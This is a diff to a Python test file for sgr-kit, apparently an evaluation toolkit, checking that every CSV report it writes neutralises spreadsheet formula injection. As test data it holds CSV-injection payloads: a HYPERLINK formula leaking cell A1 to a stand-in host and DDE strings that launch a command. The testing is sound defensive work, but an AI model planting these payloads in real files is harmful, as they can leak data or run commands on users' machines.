@@ -1,8 +1,10 @@
-"""Sheets meant for people are safe to open in a spreadsheet, and sgr-kit reads its own files back unchanged.
+"""Every CSV sgr-kit writes is safe to open in a spreadsheet, and sgr-kit reads its own files back unchanged.
 
 A system named ``=HYPERLINK("http://x","y")`` goes through ``score``, ``sample``, the label
 store, ``agreement``, adjudication and ``report --audit --labels`` on the demo: every sheet a
 person opens holds it as text (a leading ``'``), and every reader of sgr-kit gets the name back.
+A report built from hostile system, task and tool names holds no formula in any of its CSV
+files (scores, usage, site reach, protocol flags, tool kinds, ``tables/*.csv``).
 """
 
 from __future__ import annotations
@@ -18,7 +20,7 @@ from hypothesis import strategies as st
 from sgr_kit.annotate import LabelStore, adjudicate, load_labels, load_sheet, write_final_labels
 from sgr_kit.cli import main
 from sgr_kit.load import load_audit
-from sgr_kit.output import FORMULA_STARTS, sheet_cell, sheet_value, write_sheet
+from sgr_kit.output import FORMULA_STARTS, read_csv, sheet_cell, sheet_value, write_sheet
 from sgr_kit.resources import demo_dir
 
 HOSTILE = '=HYPERLINK("http://x","y")'
@@ -142,7 +144,7 @@ def test_a_formula_system_name_goes_through_sample_labels_agreement_and_adjudica
                         answers=sheet_path)
     final, _ = write_final_labels(result, folder / "audit-labels.csv")
     _no_formula(final)
-    audit = load_audit(final, scores=pd.read_csv(scores, dtype={"system": str}))
+    audit = load_audit(final, scores=read_csv(scores, dtype={"system": str}))  # sgr-kit's reader of its own CSV
     assert HOSTILE in set(audit["system"])
 
 
@@ -190,3 +192,58 @@ def test_a_formula_system_name_reaches_the_report_unchanged(hostile_demo, tmp_pa
     import html
 
     assert html.escape(HOSTILE, quote=False) in (out / "05_error_profiles.html").read_text(encoding="utf-8")
+
+
+HOSTILE_SYSTEMS = ('=HYPERLINK("http://evil.example/?"&A1,"x")', "-cmd", "+1", "@SUM(1+1)*cmd|' /C calc'!A0")
+HOSTILE_TOOLS = ("@SUM(1+1)*cmd|' /C calc'!A0", "\tTab", "\r=1+1", "=search")
+
+
+def test_every_csv_of_a_report_built_from_hostile_names_is_formula_safe(tmp_path):
+    # two tasks (a constraint task and its goal variant) whose id a spreadsheet would run, four hostile systems,
+    # tools named as formulas; the report's own tables, the main table, site reach and effort pages
+    task_id = "=cmd|' /C calc'!A0"
+    reference = "key|value\nk1|1\nk2|-2.5"
+    tasks = [{"task_id": tid, "domain": "NVD", "oracle_answer": reference, "output_format": "Return key|value rows.",
+              "start_url": "https://nvd.example"} for tid in (task_id, f"{task_id}-g")]
+    (tmp_path / "tasks.jsonl").write_text("".join(json.dumps(t) + "\n" for t in tasks), encoding="utf-8")
+    with (tmp_path / "trajectories.jsonl").open("w", encoding="utf-8") as f:
+        for k, system in enumerate(HOSTILE_SYSTEMS):
+            for tid in (task_id, f"{task_id}-g"):
+                tool = HOSTILE_TOOLS[k]
+                call = {"id": "c1", "type": "function",
+                        "function": {"name": tool, "arguments": json.dumps({"url": "https://nvd.example/x"})}}
+                usage = {"prompt_tokens": 100, "completion_tokens": 5}
+                messages = [{"role": "user", "content": "the task"},
+                            {"role": "assistant", "content": None, "tool_calls": [call], "usage": usage},
+                            {"role": "tool", "tool_call_id": "c1", "content": "=1+1"},
+                            {"role": "assistant", "content": reference if k % 2 else "key|value\nk1|=1+1",
+                             "usage": usage}]  # fmt: skip
+                f.write(json.dumps({"system": system, "task_id": tid, "messages": messages,
+                                    "totals": {"seconds": 30.0}}) + "\n")
+    kinds = tmp_path / "kinds.yaml"
+    kinds.write_text(json.dumps({tool: "fetch" for tool in HOSTILE_TOOLS}), encoding="utf-8")  # JSON is YAML
+    out = tmp_path / "report"
+    assert main(["report", "--tasks", str(tmp_path / "tasks.jsonl"), "--trajectories", str(tmp_path / "trajectories.jsonl"),
+                 "--out", str(out), "--notebooks", "01,09,10", "-p", "n_boot", "100",
+                 "--quiet", "--no-progress",
+                 "--tool-kinds", str(kinds), "--workers", "1", "--protocol", "paper"]) == 0  # fmt: skip
+    written = sorted(out.rglob("*.csv"))
+    names = {p.relative_to(out).as_posix() for p in written}
+    assert {"scores.csv", "usage.csv", "site-reach.csv", "tool-kind-sources.csv", "protocol-flags.csv",
+            "tables/headline.csv", "tables/main_table.csv", "tables/tool_kinds.csv"} <= names, names  # fmt: skip
+    for path in written:
+        _no_formula(path)
+        with open(path, newline="", encoding="utf-8") as handle:
+            header = next(csv.reader(handle))
+        assert not [c for c in header if c.startswith(FORMULA_STARTS) and sheet_cell(c) != c], path
+    assert any(c.startswith("'=HYPERLINK") for c in _cells(out / "scores.csv"))
+    assert any(c.startswith("'@SUM") for c in _cells(out / "tool-kind-sources.csv"))
+    # read back by sgr-kit unchanged; numbers stay numbers
+    from sgr_kit.load import load_scores
+
+    scores = load_scores(out / "scores.csv")
+    assert set(scores["system"]) == set(HOSTILE_SYSTEMS) and set(scores["task_id"]) == {task_id, f"{task_id}-g"}
+    assert set(read_csv(out / "tool-kind-sources.csv", dtype=str, keep_default_na=False)["tool"]) == set(HOSTILE_TOOLS)
+    assert set(read_csv(out / "usage.csv", dtype={"system": str})["system"]) == set(HOSTILE_SYSTEMS)
+    main_table = read_csv(out / "tables" / "main_table.csv", dtype={"system": str})
+    assert set(main_table["system"]) == set(HOSTILE_SYSTEMS) and main_table["item_f1"].dtype == float
